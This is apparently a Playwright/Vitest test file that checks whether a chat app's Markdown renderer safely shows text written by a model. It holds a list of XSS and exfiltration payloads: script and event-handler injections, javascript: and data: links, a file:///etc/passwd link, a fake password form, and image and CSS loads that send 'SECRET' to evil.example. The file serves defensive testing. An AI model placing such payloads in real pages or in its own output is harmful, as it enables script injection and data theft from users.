import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openApplication, type RunningApplication } from './open-application.js'
import { openBrowser, type SignedInPage, signIn, skipped } from './open-browser.js'

const RUN = 'document.title="OWNED"'
const AWAY = 'https://evil.example/?d=SECRET'

/** What a model, or a text that it repeats, may try to put into the page. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror='${RUN}'>`,
  `<img src="${AWAY}">`,
  `![pixel](${AWAY})`,
  `![pixel][a]\n\n[a]: ${AWAY}`,
  `<svg onload='${RUN}'><image href="${AWAY}"/></svg>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${AWAY}"></object><embed src="${AWAY}">`,
  `<form action="${AWAY}"><input name=password><button>Sign in</button></form>`,
  `<style>body { background: url(${AWAY}) }</style>`,
  `<p style="background:url(${AWAY})">x</p>`,
  `<table background="${AWAY}"><tr><td background="${AWAY}">x</td></tr></table>`,
  `<link rel=stylesheet href="${AWAY}"><link rel=prefetch href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href="${AWAY}">`,
  `<video poster="${AWAY}"><source src="${AWAY}"></video><audio src="${AWAY}" autoplay></audio>`,
  `<picture><source srcset="${AWAY}"><img></picture>`,
  `<math><mtext><table><mglyph><style><img src=x onerror='${RUN}'></style></mglyph></table></mtext></math>`,
  `<details open ontoggle='${RUN}'>x</details>`,
  `<a href="javascript:${RUN}">go</a>`,
  `[go](javascript:${RUN})`,
  `[go](JaVaScRiPt:${RUN})`,
  `[go](&#106;avascript:${RUN})`,
  `[go](data:text/html,<script>${RUN}</script>)`,
  `[go](vbscript:x)`,
  `[go](file:///etc/passwd)`,
  `[go](//evil.example/x)`,
  `[bank.example](${AWAY})`,
  `[click here](${AWAY})`,
  `<${AWAY}>`,
  `<b onclick='${RUN}' id=app class=card>x</b>`,
  `<button formaction="${AWAY}">Approve</button>`,
  `<textarea autofocus onfocus='${RUN}'></textarea>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></noscript>`,
  `\`\`\`\n</code></pre><img src=x onerror='${RUN}'>\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror='${RUN}'> |`,
  `<sa-approval-card></sa-approval-card><slot name=x></slot>`,
  `${'>'.repeat(500)} deep`,
  `${'[a]('.repeat(500)}`,
  '\u202E[go](https://evil.example) \u0000',
]

interface Shown {
  tags: string[]
  attributes: string[]
  links: { href: string; says: string }[]
}

/** In the page: shows a text as an answer is shown, and says what came of it. The sanitiser loads at the first one. */
const SHOW = `async (text) => {
  const element = Object.assign(document.createElement('sa-markdown'), { text })
  document.body.append(element)
  const body = () => element.shadowRoot?.querySelector('.body')
  for (let i = 0; i < 250 && !body()?.childNodes.length; i++) await new Promise((resolve) => setTimeout(resolve, 20))
  const nodes = [...body().querySelectorAll('*')]
  const links = nodes.filter((node) => node.localName === 'a' && node.hasAttribute('href'))
  const shown = {
    tags: [...new Set(nodes.map((node) => node.localName))],
    attributes: [...new Set(nodes.flatMap((node) => node.getAttributeNames()))],
    links: links.map((node) => ({ href: node.getAttribute('href'), says: node.textContent })),
  }
  element.remove()
  return shown
}`

describe.skipIf(skipped)(`prose of a model${skipped ? ` (${skipped})` : ''}`, { timeout: 120_000 }, () => {
  let application: RunningApplication
  let browser: Browser
  let maria: SignedInPage
  const outside: string[] = []

  beforeAll(async () => {
    application = await openApplication()
    browser = await openBrowser()
    maria = await signIn(browser, application, 'maria@example.com')
    maria.page.on('request', (request) => {
      if (!request.url().startsWith(application.url)) outside.push(request.url())
    })
    maria.page.on('dialog', (dialog) => {
      outside.push(`dialog ${dialog.message()}`)
      void dialog.dismiss()
    })
  }, 120_000)
  afterAll(async () => {
    await browser?.close()
    await application?.close()
  })

  /** What the page shows of a text: the tags, the links with their words, and every attribute. */
  const show = async (text: string): Promise<Shown> => await maria.page.evaluate(`(${SHOW})(${JSON.stringify(text)})`)

  it('is shown as Markdown: lists, tables, code, links', async () => {
    const { tags, links } = await show(
      '# A\n\n- **b** `c`\n\n| d |\n|--:|\n| 1 |\n\n[plan](/plan) <https://example.org/x>',
    )
    expect(tags).toEqual(expect.arrayContaining(['h1', 'ul', 'strong', 'code', 'table', 'td', 'a']))
    expect(links).toEqual([
      { href: '/plan', says: 'plan' },
      { href: 'https://example.org/x', says: 'https://example.org/x' },
    ])
  })

  it('runs nothing, loads nothing and keeps no form, whatever it holds', async () => {
    const plain = new Set(
      'p br hr strong em del code pre blockquote ul ol li h1 h2 h3 table thead tbody tr th td a'.split(' '),
    )
    const attributes = new Set(['href', 'rel', 'target', 'align'])
    for (const payload of PAYLOADS) {
      const seen = await show(`Before ${payload} after\n\n${payload}`)
      expect({ payload, tags: seen.tags.filter((tag) => !plain.has(tag)) }).toEqual({ payload, tags: [] })
      expect({ payload, odd: seen.attributes.filter((name) => !attributes.has(name)) }).toEqual({ payload, odd: [] })
      for (const { href } of seen.links) expect(href).toMatch(/^(https:\/\/|\/(?!\/))/)
    }
    expect(outside).toEqual([])
    expect(await maria.page.title()).not.toBe('OWNED')
  })

  it('says where a link leads, whatever its words are', async () => {
    const { links } = await show('[bank.example](https://evil.example/a) [evil.example/a](https://evil.example/a)')
    expect(links.map(({ says }) => says)).toEqual(['bank.example (evil.example)', 'evil.example/a'])
  })

  it('leaves the content security policy unbroken', () => {
    expect(maria.complaints).toEqual([])
  })
})
